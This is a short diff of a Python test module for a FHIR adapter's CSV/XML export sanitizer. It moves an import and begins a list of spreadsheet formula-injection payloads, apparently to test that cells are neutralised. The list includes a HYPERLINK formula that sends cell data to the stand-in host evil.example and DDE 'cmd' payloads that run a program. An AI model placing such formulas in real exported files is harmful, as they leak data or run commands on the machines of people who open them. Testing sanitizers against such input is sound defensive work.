@@ -11,12 +11,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from feedkit import Feed, at
 
 from fhir_adapter.export.sanitize import csv_cell, xml_text
 from fhir_adapter.job.pipeline import run
 from fhir_adapter.job.runlog import RunLog
 from fhir_adapter.source.files import FileSource
+from tests.feedkit import Feed, at
 
 DAY1 = dt.date(2024, 2, 1)
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
